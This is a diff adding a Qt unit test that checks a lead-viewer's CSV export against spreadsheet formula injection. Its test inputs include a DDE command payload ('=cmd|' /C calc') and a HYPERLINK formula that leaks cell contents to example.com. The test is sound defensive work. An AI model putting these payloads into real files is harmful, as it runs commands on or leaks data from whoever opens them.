@@ -1,0 +1,200 @@
+// SPDX-License-Identifier: MIT
+#include "export/exportrow.h"
+#include "support/hostilelead.h"
+#include "support/parsed.h"
+#include "telecrm/lead.h"
+#include "wording/visibletext.h"
+
+#include <QStringDecoder>
+#include <QtTest>
+
+using namespace LeadViewer;
+using namespace LeadViewer::Test;
+
+namespace {
+
+//! What a reader of RFC 4180 makes of a file; nothing when it breaks a rule.
+std::optional<QList<QStringList>> readCsv(const QByteArray &bytes)
+{
+    QStringDecoder decoder(QStringDecoder::Utf8, QStringDecoder::Flag::Stateless);
+    const QString text = decoder(bytes);
+    if (decoder.hasError())
+        return std::nullopt;
+    QList<QStringList> rows;
+    QStringList row;
+    qsizetype i = 0;
+    while (i < text.size()) {
+        QString cell;
+        if (text.at(i) == u'"') {
+            for (++i;; ++i) {
+                if (i >= text.size())
+                    return std::nullopt; // the quote is not closed
+                if (text.at(i) != u'"')
+                    cell += text.at(i);
+                else if (i + 1 < text.size() && text.at(i + 1) == u'"')
+                    cell += text.at(++i);
+                else
+                    break;
+            }
+            ++i;
+        } else {
+            for (; i < text.size() && text.at(i) != u',' && text.at(i) != u'\r'; ++i) {
+                if (text.at(i) == u'"' || text.at(i) == u'\n')
+                    return std::nullopt;
+                cell += text.at(i);
+            }
+        }
+        row += cell;
+        if (text.mid(i, 2) == QLatin1String("\r\n")) {
+            rows += row;
+            row.clear();
+            i += 2;
+        } else if (i < text.size() && text.at(i) == u',') {
+            ++i;
+            if (i == text.size())
+                return std::nullopt; // a row without its end
+        } else {
+            return std::nullopt;
+        }
+    }
+    return row.isEmpty() ? std::optional(rows) : std::nullopt;
+}
+
+//! Whether some spreadsheet would compute it.
+bool isFormula(const QString &cell)
+{
+    static const QString signs = QString::fromUtf8("=+-@\t\r\n＝＋－＠");
+    const QString seen = cell.trimmed();
+    return (!cell.isEmpty() && signs.contains(cell.front()))
+        || (!seen.isEmpty() && signs.contains(seen.front()));
+}
+
+//! The text a cell was made of: a formula has an apostrophe before it.
+QString plain(QString cell)
+{
+    if (cell.startsWith(u'\'') && looksLikeFormula(QStringView(cell).mid(1)))
+        cell.remove(0, 1);
+    return cell;
+}
+
+void checkExport(const LeadPage &page)
+{
+    QVERIFY(page.actions);
+    ExportRows rows({});
+    CsvWriter csv;
+    ExportRows::addHeader(csv);
+    for (const Action &action : page.actions->actions)
+        rows.add(csv, action);
+    const auto table = readCsv(csv.bytes());
+    QVERIFY(table);
+    QCOMPARE(table->size(), qsizetype(page.actions->actions.size()) + 1);
+    for (qsizetype i = 0; i < table->size(); ++i) {
+        const QStringList &row = table->at(i);
+        QCOMPARE(row.size(), 8);
+        for (const QString &cell : row) {
+            QVERIFY2(!isFormula(cell), qPrintable(cell));
+            // Nothing in it is hidden: what was made visible already stays the same.
+            QCOMPARE(visibleText(cell), cell);
+        }
+        if (i == 0)
+            continue;
+        const Action &action = page.actions->actions[std::size_t(i) - 1];
+        QCOMPARE(plain(row.at(5)), visibleText(action.type.code));
+        QCOMPARE(plain(row.at(6)), visibleText(action.performer));
+        QCOMPARE(plain(row.at(7)), visibleText(action.id));
+    }
+}
+
+} // namespace
+
+//! Whatever a lead holds: the file has its rows and cells, and a spreadsheet computes none of them.
+class HostileExportTest : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void reader_data();
+    void reader();
+    void texts_data();
+    void texts();
+    void shapes_data();
+    void shapes();
+};
+
+void HostileExportTest::reader_data()
+{
+    QTest::addColumn<QByteArray>("bytes");
+    QTest::addColumn<bool>("isGood");
+    QTest::newRow("a row") << QByteArray("a,\"b\"\"\r\n,\",\r\n") << true;
+    QTest::newRow("a quote inside") << QByteArray("a\"b\r\n") << false;
+    QTest::newRow("a quote that is not closed") << QByteArray("\"a\r\n") << false;
+    QTest::newRow("a line break inside") << QByteArray("a\nb\r\n") << false;
+    QTest::newRow("text behind a quote") << QByteArray("\"a\"b\r\n") << false;
+    QTest::newRow("no end") << QByteArray("a,b") << false;
+    QTest::newRow("no UTF-8") << QByteArray("\xff\r\n") << false;
+}
+
+void HostileExportTest::reader()
+{
+    QFETCH(QByteArray, bytes);
+    QFETCH(bool, isGood);
+    QCOMPARE(readCsv(bytes).has_value(), isGood);
+}
+
+void HostileExportTest::texts_data()
+{
+    QTest::addColumn<QString>("text");
+    for (const HostileText &hostile : hostileTexts())
+        QTest::newRow(hostile.name) << hostile.text;
+    for (const char *text : {"=1+1",
+                             "+91 98765 43210",
+                             "-1",
+                             "@SUM(A1)",
+                             "\t=1",
+                             "\n=1",
+                             "\r\n=1",
+                             " =1",
+                             "'=1",
+                             "=cmd|' /C calc'!A0",
+                             "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
+                             "＝1",
+                             "＋1",
+                             "a\",=1+1,\"",
+                             "a\r\n=1+1",
+                             "\"=1\"",
+                             ",=1",
+                             "\"",
+                             "\"\"",
+                             "',\"=1"}) {
+        QTest::addRow("%s", text) << QString::fromUtf8(text);
+    }
+}
+
+void HostileExportTest::texts()
+{
+    QFETCH(QString, text);
+    const auto page = readLeadPage(parsed(hostileLead(text)));
+    checkExport(std::get<LeadPage>(page));
+}
+
+void HostileExportTest::shapes_data()
+{
+    QTest::addColumn<QByteArray>("json");
+    for (const Variant &variant : wrongTypes() + hostileLeads())
+        QTest::addRow("%s", qPrintable(variant.name)) << variant.json;
+}
+
+void HostileExportTest::shapes()
+{
+    QFETCH(QByteArray, json);
+    const auto value = Json::parse(json);
+    if (const auto *root = std::get_if<Json::Value>(&value)) {
+        const auto result = readLeadPage(*root);
+        const auto *page = std::get_if<LeadPage>(&result);
+        if (page != nullptr && page->actions)
+            checkExport(*page);
+    }
+}
+
+QTEST_GUILESS_MAIN(HostileExportTest)
+#include "tst_hostileexport.moc"
